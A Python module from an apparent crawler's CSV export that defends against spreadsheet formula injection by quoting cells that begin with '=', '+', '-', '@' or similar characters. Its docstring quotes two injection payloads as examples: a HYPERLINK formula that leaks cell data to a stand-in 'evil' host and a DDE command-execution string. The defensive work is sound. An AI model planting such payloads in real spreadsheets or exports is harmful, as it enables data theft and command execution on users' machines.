"""CSV cells that a spreadsheet shows as text, never runs as a formula.

A title, author, section or tag a hostile site chose can begin with ``=``
(``=HYPERLINK("http://evil/?"&A1, "click")``, ``=cmd|' /C calc'!A0``), and
Excel, LibreOffice and Google Sheets would evaluate it when the export is
opened. OWASP's advice ("CSV injection") is applied: a cell that starts with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading single
quote ``'``, which spreadsheets show as text. The class is taken wide:

* the full-width forms ``＝ ＋ － ＠`` (some spreadsheet builds read them as
  the ASCII ones);
* any of those after leading whitespace or control characters
  (`` =1+1``, ``\\n=1+1``), since importers may trim it.

The quote changes what a program reading the CSV sees (``'-5`` is not
``-5``), so ``python -m crawler.export --raw`` writes cells as stored. Every
cell is also scrubbed of control characters and escape sequences
(:func:`crawler.text.hygiene.scrub`), also for rows stored before the
crawler scrubbed text. Numbers (ids) are written as they are.
"""

from __future__ import annotations

from collections.abc import Iterable

from crawler.text.hygiene import scrub

FORMULA_STARTS = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
_LEADING = " \t\r\n\u00a0\u3000"  # trimmed by some importers before a formula is recognised


def neutralize_formula(cell: str) -> str:
    """``cell`` with a leading ``'`` when a spreadsheet could read it as a formula."""
    if cell and (cell[0] in FORMULA_STARTS or cell.lstrip(_LEADING)[:1] in FORMULA_STARTS):
        return "'" + cell
    return cell


def spreadsheet_row(record: Iterable[object], raw: bool = False) -> list[object]:
    """A database row as CSV cells: text scrubbed, and unless ``raw`` made
    safe to open in a spreadsheet."""
    cells: list[object] = []
    for value in record:
        if isinstance(value, str):
            value = scrub(value)
            if not raw:
                value = neutralize_formula(value)
        cells.append(value)
    return cells
